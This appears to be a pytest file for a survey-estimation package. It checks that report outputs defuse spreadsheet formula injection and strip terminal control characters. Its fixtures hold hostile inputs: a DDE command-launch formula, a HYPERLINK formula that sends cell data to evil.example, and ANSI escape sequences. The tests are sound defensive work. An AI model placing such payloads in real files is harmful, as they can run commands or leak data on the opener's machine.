"""Outputs carry the user's text safely: no live formula, no control character (issue 14).

The labels come from the survey's codebook and the titles from the config, as in
the review that found the problems: a CSV survey with its codebook, both edited.
"""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml
from openpyxl import load_workbook

from flestimate.cli import main
from flestimate.report.text import clean_text, csv_safe_frame

SAMPLE = Path(__file__).resolve().parents[2] / "data" / "sample"

FORMULAS = {
    1: "=cmd|' /C calc'!A0",
    2: "@SUM(1+1)",
    3: "+1+1",
    4: "-x",
    5: "-1.5",  # a plain number: left as it is
}
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
# what the review pasted: a vertical tab from a word processor, terminal escapes, C1
CONTROLS = {
    1: "North\vcoast",
    2: "\x1b[31mSouth\x1b[0m",
    3: "East\x00\x07\x7f\x9b2J",
    4: "West\x1b]0;owned\x07",
    5: "Centre\r\nregion",
}
CLEANED = {1: "North coast", 2: "South", 3: "East2J", 4: "West", 5: "Centre  region"}
ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def hostile_project(folder: Path, region_labels: dict[int, str], title: str,
                    table_title: str) -> Path:
    """The sample survey as CSV + codebook with edited region labels, and its config."""
    folder.mkdir()
    shutil.copy(SAMPLE / "fl_survey.csv", folder / "fl_survey.csv")
    for name in ("mapping.yaml", "margins.csv"):
        shutil.copy(SAMPLE / name, folder / name)
    book = yaml.safe_load((SAMPLE / "fl_survey.codebook.yaml").read_text(encoding="utf-8"))
    book["variables"]["region"]["values"] = dict(region_labels)
    (folder / "fl_survey.codebook.yaml").write_text(
        yaml.safe_dump(book, allow_unicode=False, sort_keys=False), encoding="utf-8")
    cfg = yaml.safe_load((SAMPLE / "example.yaml").read_text(encoding="utf-8"))
    cfg["input"] = {"path": "fl_survey.csv"}
    cfg["title"] = title
    cfg["sensitivity"] = False
    cfg["tables"] = [
        {"name": "national", "title": "=1+1"},
        {"name": "by_region", "title": table_title, "by": ["region"]},
    ]
    path = folder / "survey.yaml"
    path.write_text(yaml.safe_dump(cfg, allow_unicode=False, sort_keys=False), encoding="utf-8")
    return path


def run_project(tmp_path_factory, name, labels, title, table_title):
    base = tmp_path_factory.mktemp(name)
    cfg = hostile_project(base / "project", labels, title, table_title)
    out = base / "out"
    code = main(["run", str(cfg), "--out", str(out), "--quiet"])
    return code, out


@pytest.fixture(scope="module")
def formula_run(tmp_path_factory):
    code, out = run_project(tmp_path_factory, "formulas", FORMULAS, "=2*3", HYPERLINK)
    assert code == 0
    return out


@pytest.fixture(scope="module")
def control_run(tmp_path_factory):
    code, out = run_project(tmp_path_factory, "controls", CONTROLS,
                            "Forced\vlabour \x1b[2Jsurvey", "By\x0bregion")
    assert code == 0, "a control character in a label must not lose the run"
    return out


def region_labels(csv: pd.DataFrame) -> dict[int, str]:
    cells = csv[csv["region"].notna()]
    return dict(zip(cells["region"].astype(int), cells["region_label"], strict=True))


def sheet_cells(path: Path):
    wb = load_workbook(path)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


# ------------------------------------------------------------------ formulas (defect 3)


def test_workbook_has_no_formula_and_keeps_the_text(formula_run):
    cells = sheet_cells(formula_run / "tables.xlsx")
    formulas = [(c.parent.title, c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == []
    wb = load_workbook(formula_run / "tables.xlsx")
    assert wb["national"]["A1"].value == "=1+1" and wb["national"]["A1"].data_type == "s"
    assert wb["by_region"]["A1"].value == HYPERLINK and wb["by_region"]["A1"].quotePrefix
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert set(FORMULAS.values()) <= texts
    # a text that Excel would turn into a formula when the cell is edited has the quote prefix
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert risky and all(c.quotePrefix for c in risky)
    meta = {r[0].value: r[1].value for r in wb["Metadata"].iter_rows(min_row=2)}
    assert meta["manifest.config.title"] == "=2*3"


def test_csv_text_cannot_start_a_formula_and_numbers_are_untouched(formula_run):
    csv = pd.read_csv(formula_run / "by_region.csv")
    labels = region_labels(csv)
    assert labels == {1: "'=cmd|' /C calc'!A0", 2: "'@SUM(1+1)", 3: "'+1+1", 4: "'-x", 5: "-1.5"}
    for col in csv.columns:
        text = [v for v in csv[col] if isinstance(v, str)]
        assert not [v for v in text if re.match(r"[=+@\t\r]", v)], col
    # numbers are written as numbers: the CSV agrees with results.json to the last digit
    rows = pd.DataFrame(json.loads((formula_run / "results.json").read_text())["tables"][1]["rows"])
    for col in ("estimate", "se", "ci_lower", "ci_upper", "n_unweighted", "region"):
        np.testing.assert_array_equal(csv[col].to_numpy(float), rows[col].to_numpy(float), col)


def test_json_keeps_the_text_and_html_escapes_it(formula_run):
    res = json.loads((formula_run / "results.json").read_text())
    assert res["title"] == "=2*3"
    assert res["tables"][1]["title"] == HYPERLINK
    labels = {r["region_label"] for r in res["tables"][1]["rows"]}
    assert set(FORMULAS.values()) <= labels
    html = (formula_run / "report.html").read_text(encoding="utf-8")
    assert "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1" in html
    assert "<a href" not in html


def test_csv_safe_frame_unit():
    frame = pd.DataFrame({
        "label": ["=1+1", "-1.5", "-x", "ok", None, "@a", "\tx", "\rx", "+1e5", "-"],
        "value": [-1.5, -2.0, 3.0, 4.0, 5.0, -6.0, 7.0, 8.0, 9.0, 10.0],
        "mixed": ["+x", -3, 2.5, None, "a", "=b", "c", "d", "e", "f"],
    })
    safe = csv_safe_frame(frame)
    assert safe["label"].fillna("NA").tolist() == ["'=1+1", "-1.5", "'-x", "ok", "NA", "'@a",
                                                   "'\tx", "'\rx", "+1e5", "'-"]
    assert safe["value"].tolist() == frame["value"].tolist()  # numbers untouched
    assert safe["mixed"].fillna("NA").tolist() == ["'+x", -3, 2.5, "NA", "a", "'=b", "c", "d",
                                                   "e", "f"]
    assert frame["label"].iloc[0] == "=1+1"  # the caller's frame is not changed
    header = csv_safe_frame(pd.DataFrame({"=evil": [1], "sex": [2]}))
    assert list(header.columns) == ["'=evil", "sex"]


# ------------------------------------------------------------------ control characters (defect 9)


def test_control_characters_do_not_lose_the_run(control_run):
    names = sorted(p.name for p in control_run.iterdir())
    assert names == ["by_region.csv", "manifest.json", "national.csv", "report.html",
                     "results.json", "tables.xlsx"]


def test_control_characters_are_cleaned_in_every_output(control_run):
    csv = pd.read_csv(control_run / "by_region.csv")
    assert region_labels(csv) == CLEANED
    res = json.loads((control_run / "results.json").read_text())
    assert {r["region_label"] for r in res["tables"][1]["rows"] if r["region"]} == set(
        CLEANED.values())
    assert res["title"] == "Forced labour survey"
    assert res["tables"][1]["title"] == "By region"
    cells = sheet_cells(control_run / "tables.xlsx")
    assert set(CLEANED.values()) <= {c.value for c in cells}
    html = (control_run / "report.html").read_text(encoding="utf-8")
    assert "North coast" in html and "Forced labour survey" in html
    for path in control_run.iterdir():
        text = ("\n".join(str(c.value) for c in cells) if path.suffix == ".xlsx"
                else path.read_text(encoding="utf-8"))
        assert not ILLEGAL.search(text), path.name
        assert "\x1b" not in text and "\\u001b" not in text, path.name


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("plain text, é, ü, 中文, العربية", "plain text, é, ü, 中文, العربية"),
        ("Domestic\vwork", "Domestic work"),
        ("a\tb\nc\r\nd\fe\x85f", "a b c  d e f"),
        ("\x1b[1;31mred\x1b[0m", "red"),
        ("\x1b]8;;http://x\x07link\x1b]8;;\x07", "link"),
        ("\x1b]0;title\x1b\\rest", "rest"),
        ("\x1bcreset", "reset"),
        ("\x1b(Bcharset", "charset"),
        ("nul\x00bell\x07del\x7f", "nulbelldel"),
        ("\x93quoted\x94 text", "quoted text"),  # C1 removed, the text after it kept
        ("\x9b31mx", "31mx"),
    ],
)
def test_clean_text(raw, clean):
    assert clean_text(raw) == clean
    assert clean_text(clean) == clean  # idempotent
